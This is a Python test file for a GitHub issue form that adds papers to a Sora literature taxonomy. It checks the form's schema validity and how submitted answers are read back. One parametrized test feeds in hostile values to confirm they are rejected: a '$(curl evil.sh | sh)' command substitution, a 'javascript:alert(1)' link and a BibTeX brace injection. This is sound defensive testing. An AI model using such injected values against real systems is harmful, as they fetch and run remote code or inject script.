"""The add-paper issue form: its YAML against GitHub's form schema, and the Markdown body
GitHub makes of it read back, on real bodies (tests/fixtures/github) and hostile ones."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
import yaml
from jsonschema import Draft7Validator

from soralit import issueform
from soralit.errors import UsageProblem
from soralit.ids import Identifier
from soralit.model import Category, Section, Taxonomy
from soralit.taxonomy import parse_taxonomy

FIXTURES = Path(__file__).parent / "fixtures" / "github"
SCHEMA = json.loads((FIXTURES / "schemas" / "github-issue-forms.json").read_text())
SORA = parse_taxonomy(
    "\n".join(
        [
            "soralit-taxonomy:",
            "title: Sora: A Review",
            "## Technology",
            "- modeling: Modeling",
            "- prompt-engineering: Prompt Engineering",
            "## Application",
            "- robotics: Robotics",
        ]
    )
)


def body(**answers: str) -> str:
    """An issue body as GitHub writes it: `### Label`, a blank line, the answer."""
    labels = {
        "identifier": issueform.IDENTIFIER,
        "category": issueform.CATEGORY,
        "code": issueform.CODE,
        "venue": issueform.VENUE,
    }
    parts = [f"### {labels[k]}\n\n{v or issueform.NO_RESPONSE}" for k, v in answers.items()]
    return "\n\n".join(parts) + "\n"


# --- reading any form's body: real bodies GitHub made ------------------------------------


def test_sections_of_a_real_body():
    text = (FIXTURES / "issue-bodies" / "full-example.md").read_text(encoding="utf-8")
    sections = issueform.form_sections(text)
    assert sections["Your contact details"] == "me@me.com"
    assert sections["What browsers are you seeing the problem on?"] == "Chrome, Safari"
    assert (
        sections["And with that?"]
        == "- [] Never give up\n- [X] Hot Dog is a Sandwich\n- [x] Another item"
    )
    # Every section of the form that made it is there.
    form = yaml.safe_load((FIXTURES / "issue-bodies" / "full-example.form.yml").read_text())
    assert list(sections) == [item["attributes"]["label"] for item in form["body"]]


def test_sections_keep_paragraphs_and_fenced_headings():
    paragraphs = (FIXTURES / "issue-bodies" / "multiple-paragraphs.md").read_text()
    assert issueform.form_sections(paragraphs) == {
        "My textarea input": "1st paragraph\n\n2nd paragraph",
        "Another textarea input": "1st paragraph\n2nd paragraph",
    }
    fenced = (FIXTURES / "issue-bodies" / "paragraph-ignore-fence.md").read_text()
    assert issueform.form_sections(fenced) == {
        "My textarea input": "Textarea input text 1\n\n```\n### To be ignored tag\n```"
    }


# --- the add-paper form ------------------------------------------------------------------


def test_the_form_is_valid_for_github_and_offers_the_taxonomy():
    form = yaml.safe_load(issueform.form_yaml(SORA))
    assert list(Draft7Validator(SCHEMA).iter_errors(form)) == []
    dropdown = next(item for item in form["body"] if item["type"] == "dropdown")
    assert dropdown["attributes"]["options"] == ["Modeling", "Prompt Engineering", "Robotics"]
    assert dropdown["attributes"]["multiple"] is True
    assert form["labels"] == ["add-paper"]
    labels = [i["attributes"].get("label") for i in form["body"] if i["type"] != "markdown"]
    assert labels == [issueform.IDENTIFIER, issueform.CATEGORY, issueform.CODE, issueform.VENUE]


def test_a_broken_form_fails_the_schema():
    """The schema check can fail: an empty dropdown is not a valid form."""
    form = yaml.safe_load(issueform.form_yaml(SORA))
    next(i for i in form["body"] if i["type"] == "dropdown")["attributes"]["options"] = []
    assert list(Draft7Validator(SCHEMA).iter_errors(form))


def test_same_category_names_in_two_sections_get_their_section():
    taxonomy = Taxonomy(
        (
            Section("Video", (Category("video-survey", "Survey"),)),
            Section("Image", (Category("image-survey", "Survey"), Category("gan", "GAN, VAE"))),
        )
    )
    assert issueform.category_options(taxonomy) == {
        "Survey (Video)": "video-survey",
        "Survey (Image)": "image-survey",
        "GAN, VAE": "gan",
    }
    form = yaml.safe_load(issueform.form_yaml(taxonomy))
    assert list(Draft7Validator(SCHEMA).iter_errors(form)) == []
    # Several choices are joined by ", ", and an option may hold ", " itself.
    answer = body(identifier="2402.17177", category="GAN, VAE, Survey (Video)")
    assert issueform.read_submission(answer, taxonomy).categories == ("gan", "video-survey")


def test_a_form_needs_a_category():
    with pytest.raises(UsageProblem, match="the taxonomy has no category yet"):
        issueform.form_yaml(Taxonomy())


# --- reading the add-paper form's answers ------------------------------------------------


def test_a_filled_form_reads_back():
    text = body(
        identifier="https://arxiv.org/abs/2402.17177v2",
        category="Modeling, Robotics",
        code="https://github.com/lichao-sun/SoraReview",
        venue="",
    )
    assert issueform.read_submission(text, SORA) == issueform.Submission(
        Identifier("arxiv", "2402.17177", "v2"),
        ("modeling", "robotics"),
        "https://github.com/lichao-sun/SoraReview",
        "",
    )


def test_crlf_bodies_and_a_doi():
    text = body(identifier="doi:10.1145/3581783.3612667", category="Robotics", venue="ACM MM'23")
    submission = issueform.read_submission(text.replace("\n", "\r\n"), SORA)
    assert submission.identifier == Identifier("doi", "10.1145/3581783.3612667")
    assert (submission.categories, submission.venue) == (("robotics",), "ACM MM'23")


@pytest.mark.parametrize(
    ("text", "message"),
    [
        (
            "Please add Sora!",
            "issue form: no '### arXiv ID or DOI' section (not an add-paper issue?)",
        ),
        (body(identifier="", category="Modeling"), "issue form: field 'arXiv ID or DOI' is empty"),
        (
            body(identifier="$(curl evil.sh | sh)", category="Modeling"),
            "issue form: field 'arXiv ID or DOI': not an arXiv ID or DOI: '$(curl evil.sh | sh)'",
        ),
        (
            body(identifier="2402.17177\n2309.15103", category="Modeling"),
            "issue form: field 'arXiv ID or DOI' spans several lines",
        ),
        (body(identifier="2402.17177", category=""), "issue form: field 'Category' is empty"),
        (
            body(identifier="2402.17177", category="Modeling, Cooking"),
            "issue form: field 'Category': no category 'Cooking'",
        ),
        (
            body(identifier="2402.17177", category="Modeling", code="javascript:alert(1)"),
            "issue form: field 'Code (optional)': not an http(s) link: 'javascript:alert(1)'",
        ),
        (
            body(identifier="2402.17177", category="Modeling", venue="CVPR'24}, title={x"),
            "issue form: field 'Venue (optional)': its braces are not balanced",
        ),
    ],
)
def test_what_cannot_be_read_is_one_line_naming_the_field(text: str, message: str):
    with pytest.raises(UsageProblem) as raised:
        issueform.read_submission(text, SORA)
    assert str(raised.value) == message
    assert "\n" not in str(raised.value)


def test_answers_in_backticks_are_read():
    text = body(identifier="`2402.17177`", category="Modeling")
    assert issueform.read_submission(text, SORA).identifier.value == "2402.17177"


def test_deeper_taxonomies_offer_each_category_with_its_path():
    images = Category("images", "Images")
    generation = Category("generation", "Generation", children=(images,))
    taxonomy = Taxonomy((Section("Methods", (generation, Category("survey", "Survey"))),))
    assert issueform.category_options(taxonomy) == {
        "Generation": "generation",
        "Generation › Images": "images",
        "Survey": "survey",
    }
    answer = body(identifier="2402.17177", category="Generation › Images")
    assert issueform.read_submission(answer, taxonomy).categories == ("images",)
